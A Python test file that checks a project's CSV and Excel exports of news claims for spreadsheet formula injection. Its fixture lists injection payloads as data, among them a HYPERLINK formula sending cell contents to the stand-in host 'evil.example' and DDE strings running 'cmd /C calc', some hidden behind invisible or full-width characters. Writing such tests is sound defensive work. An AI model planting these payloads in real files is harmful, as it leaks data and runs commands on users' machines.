"""What goes into a spreadsheet from the desk: no cell of any column counts, whoever wrote it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from firsthand.ledger.ledger import Ledger
from firsthand.model.claim import Claim, Hop, Source, SourceType
from firsthand.model.event import Event
from firsthand.model.measure import Place
from firsthand.model.text import Span
from firsthand.serve.desk import Desk
from tests.serve.cases import document, keep
from tests.serve.desks import client

COUNTING = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "behind a blank": " =1+1",
    "behind a tab": "\t=1+1",
    "behind a line": "\r\n=1+1",
    "behind a blank that is not seen": "\u200b=1+1",
    "in full width": "＝1+1",
    "behind a mark": '"=1+1"',
}
FIRST = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    with Ledger(tmp_path / "case.db", writing=True) as ledger:
        for number, sign in enumerate(COUNTING.values()):
            of = document(f"{sign} {number}", outlet=sign, title=sign, url=sign, authors=(sign,))
            source = Source(name=sign, type=SourceType.ACCOUNT, canonical=sign, handle=sign, of=sign)
            span = Span(0, len(of.text))
            claim = Claim(
                document=of.id,
                content=(span,),
                cue=(span,),
                hedges=(span,),
                chain=(Hop(source=source, basis=sign, anonymity_reason=sign),),
                basis=sign,
                audience=sign,
                places=(Place(span=span, name=sign, precision=1),),
                events=(Event(type="ASSAULT", mode=sign, actor=sign, recipient=sign, place=sign),),
            )
            keep(ledger, of, claim)
        yield Desk(ledger=ledger, hosts=frozenset({"127.0.0.1"}))


def test_no_cell_of_the_csv_counts(desk: Desk) -> None:
    rows = list(csv.reader(io.StringIO(client(desk).get("/claims.csv").text)))
    assert len(rows) == 1 + len(COUNTING)
    assert [cell for row in rows for cell in row if cell.startswith(FIRST)] == []


def test_no_cell_of_the_workbook_counts(desk: Desk) -> None:
    sheet = load_workbook(io.BytesIO(client(desk).get("/claims.xlsx").content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) > len(COUNTING)
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [cell.value for cell in cells if str(cell.value or "").startswith(FIRST)] == []
